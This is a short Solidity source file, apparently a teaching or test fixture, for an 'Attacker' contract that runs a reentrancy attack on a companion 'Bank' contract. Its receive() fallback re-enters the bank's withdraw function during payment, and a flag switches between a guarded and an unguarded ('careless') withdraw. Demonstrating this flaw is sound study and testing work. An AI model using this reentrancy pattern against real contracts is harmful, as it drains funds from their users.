// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import {Bank} from "./Bank.sol";

/// Calls the bank again while it is being paid by it.
contract Attacker {
    Bank public immutable bank;
    bool private careless;
    uint256 private rounds;

    constructor(Bank target) {
        bank = target;
    }

    function attack(bool withoutGuard) external payable {
        careless = withoutGuard;
        rounds = 0;
        bank.deposit{value: msg.value}();
        take();
    }

    receive() external payable {
        if (++rounds < 3) take();
    }

    function take() private {
        if (careless) bank.withdrawCareless();
        else bank.withdraw();
    }
}
